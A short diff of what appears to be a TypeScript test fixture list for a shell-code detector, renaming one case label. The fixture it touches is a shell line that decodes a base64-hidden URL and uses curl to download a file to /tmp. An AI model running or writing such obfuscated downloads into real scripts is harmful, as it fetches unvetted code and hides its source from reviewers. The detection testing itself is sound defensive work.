@@ -164,7 +164,7 @@ const seen: ReadonlyArray<readonly [string, string, Example]> = [
   ],
   [
     "shell: an address that only a decoder can read",
-    "T11-decode-and-run",
+    "T11-hidden-address",
     { "a.sh": 'curl -sL "$(echo aHR0cHM6Ly9pbi5sYW5laG9zdC5pby9h | base64 -d)" -o /tmp/a\n' },
   ],
   [
